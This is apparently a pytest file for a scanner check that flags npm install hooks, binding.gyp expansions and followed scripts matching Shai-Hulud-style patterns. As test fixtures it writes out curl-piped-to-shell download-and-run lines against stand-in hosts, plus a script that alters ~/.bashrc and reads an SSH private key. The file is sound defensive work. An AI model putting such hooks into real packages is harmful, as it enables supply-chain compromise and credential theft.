import json

import pytest

from ztsa.model import Status


def test_pass(machine):
    machine.fixture("npm-postinstall-benign")
    machine.ws("pkg/package.json", json.dumps({"scripts": {"postinstall": "node ./build.js"}}))
    assert machine.run("SUP004").status is Status.PASS


def test_fail(machine):
    machine.fixture("npm-postinstall-node-e")
    machine.ws("b/package.json", json.dumps({"scripts": {
        "preinstall": "sh -c 'echo hi'", "prepare": "wget -q https://x.invalid/a"}}))
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert sorted((e.path, e.detail.split(":")[0]) for e in out.evidence) == [
        ("b/package.json", "preinstall runs sh -c"), ("b/package.json", "prepare runs wget"),
        ("package.json", "postinstall runs node -e")]


def test_unknown(machine):
    machine.ws("package.json", '{"scripts": {"postinstall": ')
    assert machine.run("SUP004").status is Status.UNKNOWN




def test_the_install_a_binding_gyp_implies_and_the_commands_it_runs(machine):
    """npm runs `node-gyp rebuild` for a package with a binding.gyp and no install
    script; gyp runs the file's `<!(...)` expansions with the shell while it does."""
    machine.ws("package.json", json.dumps({"name": "n", "scripts": {"test": "true"}}))
    machine.ws("binding.gyp", "{'targets': [{'target_name': 'n',\n"
               "  'sources': ['<!@(node -p \"require(\\'fs\\').readdirSync(\\'src\\')\")'],\n"
               "  'libraries': ['<!(curl -s https://x.invalid/p | sh)']}]}\n")
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert [(e.path, e.line, e.detail.split(":")[0]) for e in out.evidence] == [
        ("binding.gyp", 2, "install (implied) -> binding.gyp command runs node -p"),
        ("binding.gyp", 3, "install (implied) -> binding.gyp command runs curl")]
    machine.ws("package.json", json.dumps({"name": "n", "gypfile": False}))
    assert machine.run("SUP004").status is Status.PASS


# -- what the hooks run, followed (ztsa.follow) -----------------------------------------
@pytest.mark.parametrize(("malicious", "benign", "where"), [
    # the Shai-Hulud shape: the hook runs a file that pipes a download into sh
    ("npm-follow-install-js-curl-sh", "npm-follow-install-js-prints",
     [("scripts/install.js", 8)]),
    # two files deep: a Node file runs a shell script that downloads, saves and runs
    ("npm-follow-two-levels-download-run", "npm-follow-two-levels-builds",
     [("tools/fetch-prebuilt.sh", 5), ("tools/fetch-prebuilt.sh", 6)]),
])
def test_fail_a_followed_file_runs_a_download_and_its_twin_passes(machine, tmp_path,
                                                                  malicious, benign, where):
    machine.fixture(malicious)
    out = machine.run("SUP004")
    assert out.status is Status.FAIL and not out.advisory, out
    assert [(e.path, e.line) for e in out.evidence] == where
    assert all("runs" in e.detail and "download" in e.detail for e in out.evidence)
    (tmp_path / "twin").mkdir()
    twin = type(machine)(tmp_path / "twin")  # the fixture's class: `conftest` is ambiguous
    twin.fixture(benign)
    assert twin.run("SUP004").status is Status.PASS


def test_fail_a_file_that_fetches_writes_and_spawns(machine):
    """Shai-Hulud 2: preinstall `node setup_bun.js` fetches a runtime, writes it and
    starts the payload with child_process."""
    machine.fixture("npm-follow-fetch-write-spawn")
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert [(e.path, e.line) for e in out.evidence] == [("setup_bun.js", 7)]
    assert "downloads a file and runs it through child_process" in out.evidence[0].detail


def test_the_chain_is_named_and_a_require_is_followed(machine):
    machine.ws("package.json", json.dumps({"scripts": {"install": "node lib/install"}}))
    machine.ws("lib/install.js", "require('./steps/fetch');\n")
    machine.ws("lib/steps/fetch.js", "const cp = require('child_process');\n"
               "cp.exec('bash <(curl -s https://x.invalid/s)');\n")
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert [(e.path, e.line) for e in out.evidence] == [("lib/steps/fetch.js", 2)]
    assert out.evidence[0].detail.startswith(
        "install runs lib/install.js -> lib/steps/fetch.js, which pipes a download")


def test_pass_a_hook_that_runs_node_gyp_or_a_formatter_through_a_file(machine):
    machine.ws("package.json", json.dumps({"scripts": {"postinstall": "sh ./setup.sh",
                                                       "prepare": "python tools/gen.py"}}))
    machine.ws("setup.sh", "#!/bin/sh\nset -e\nnode-gyp rebuild\nnpx prettier --write .\n"
               "echo 'see https://x.example/docs | sh is not run'\n")
    machine.ws("tools/gen.py", "import subprocess\nsubprocess.run(['black', 'src'])\n"
               "print('generated')\n")
    assert machine.run("SUP004").status is Status.PASS


def test_fail_writes_to_shell_startup_files_and_reads_credentials(machine):
    machine.ws("package.json", json.dumps({"scripts": {"postinstall": "node post.js"}}))
    machine.ws("post.js", "const fs = require('fs'), os = require('os'), p = require('path');\n"
               "fs.appendFileSync(p.join(os.homedir(), '.bashrc'), 'export X=1\\n');\n"
               "const k = fs.readFileSync(p.join(os.homedir(), '.ssh/id_ed25519'));\n")
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert [(e.line, e.detail.split(", which ")[1]) for e in out.evidence] == [
        (2, "writes to the shell start-up file ~/.bashrc (line 2)"),
        (3, "reads the credential path ~/.ssh/id_ed25519 (line 3)")]


@pytest.mark.parametrize("how", ["unreadable", "oversized", "binary", "too deep"])
def test_unknown_a_followed_file_that_cannot_be_judged(machine, how):
    import os

    machine.ws("package.json", json.dumps({"scripts": {"postinstall": "./bin/setup"}}))
    if how == "unreadable":
        os.chmod(machine.ws("bin/setup", "#!/bin/sh\necho ok\n"), 0)
    elif how == "oversized":
        machine.ws("bin/setup", "#!/bin/sh\n" + "echo ok\n" * 200_000)
    elif how == "binary":
        machine.ws("bin/setup", b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8)
    else:  # four files deep: the fourth is past the bound
        machine.ws("bin/setup", "#!/bin/sh\nsh bin/a.sh\n")
        machine.ws("bin/a.sh", "sh bin/b.sh\n")
        machine.ws("bin/b.sh", "sh bin/c.sh\n")
        machine.ws("bin/c.sh", "echo done\n")
    out = machine.run_unprivileged("SUP004")
    assert out.status is Status.UNKNOWN, out
    assert ("bin/c.sh" if how == "too deep" else "bin/setup") in out.message
